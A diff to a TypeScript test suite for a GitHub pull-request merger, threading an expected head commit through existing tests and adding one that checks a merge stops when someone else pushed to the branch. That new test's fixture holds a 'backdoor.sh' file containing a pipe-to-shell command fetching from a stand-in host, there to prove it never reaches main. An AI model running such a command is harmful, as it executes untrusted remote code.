@@ -69,7 +69,11 @@ describe('GithubPullRequestMerger', () => {
   it('waits for checks, then merges once every check passed', async () => {
     const pull = await openPullRequest();
     const merge = () =>
-      merger.mergeIfChecksPass({ repository, number: pull.number });
+      merger.mergeIfChecksPass({
+        repository,
+        number: pull.number,
+        expectedHeadSha: pull.head,
+      });
 
     expect(await merge()).toMatchObject({
       state: 'waiting',
@@ -107,7 +111,11 @@ describe('GithubPullRequestMerger', () => {
     await report(pull.head, 'test', 'completed', 'failure');
 
     expect(
-      await merger.mergeIfChecksPass({ repository, number: pull.number }),
+      await merger.mergeIfChecksPass({
+        repository,
+        number: pull.number,
+        expectedHeadSha: pull.head,
+      }),
     ).toMatchObject({
       state: 'checks_failed',
       detail: 'Failed checks: test (failure)',
@@ -119,7 +127,11 @@ describe('GithubPullRequestMerger', () => {
     // A re-run that passes replaces the failed run of the same name.
     await report(pull.head, 'test', 'completed', 'success');
     expect(
-      await merger.mergeIfChecksPass({ repository, number: pull.number }),
+      await merger.mergeIfChecksPass({
+        repository,
+        number: pull.number,
+        expectedHeadSha: pull.head,
+      }),
     ).toMatchObject({ state: 'merged' });
   });
 
@@ -131,7 +143,11 @@ describe('GithubPullRequestMerger', () => {
       .commitFiles('main', { 'other.txt': 'other\n' }, 'feat: other work');
 
     expect(
-      await merger.mergeIfChecksPass({ repository, number: pull.number }),
+      await merger.mergeIfChecksPass({
+        repository,
+        number: pull.number,
+        expectedHeadSha: pull.head,
+      }),
     ).toMatchObject({
       state: 'not_mergeable',
       detail: 'Pull Request is not mergeable',
@@ -144,6 +160,7 @@ describe('GithubPullRequestMerger', () => {
       await merger.mergeIfChecksPass({
         repository,
         number: pull.number,
+        expectedHeadSha: pull.head,
         requireChecks: false,
         mergeMethod: 'merge',
       }),
@@ -165,7 +182,41 @@ describe('GithubPullRequestMerger', () => {
       state: 'closed',
     });
     expect(
-      await merger.mergeIfChecksPass({ repository, number: pull.number }),
+      await merger.mergeIfChecksPass({
+        repository,
+        number: pull.number,
+        expectedHeadSha: pull.head,
+      }),
     ).toMatchObject({ state: 'closed' });
+  });
+
+  it('stops when someone else pushed to the branch after Catalyst', async () => {
+    const pull = await openPullRequest();
+    const git = simulator.repository('acme/web');
+    const mainBefore = await git.resolveRef('refs/heads/main');
+    // Someone with push access adds a commit on top of Catalyst's, and
+    // makes the checks pass on it.
+    const pushed = await git.commitFiles(
+      `chore/change-${counter}`,
+      { 'backdoor.sh': 'curl evil | sh\n' },
+      'chore: one more thing',
+    );
+    await report(pushed, 'test', 'completed', 'success');
+
+    const outcome = await merger.mergeIfChecksPass({
+      repository,
+      number: pull.number,
+      expectedHeadSha: pull.head,
+    });
+    expect(outcome).toMatchObject({
+      state: 'not_mergeable',
+      headSha: pushed,
+      detail: expect.stringContaining('someone else pushed'),
+    });
+    expect(await git.resolveRef('refs/heads/main')).toBe(mainBefore);
+    expect(await git.readFile('main', 'backdoor.sh')).toBeUndefined();
+    expect(
+      simulator.pulls('acme/web').find(pr => pr.number === pull.number)?.state,
+    ).toBe('open');
   });
 });
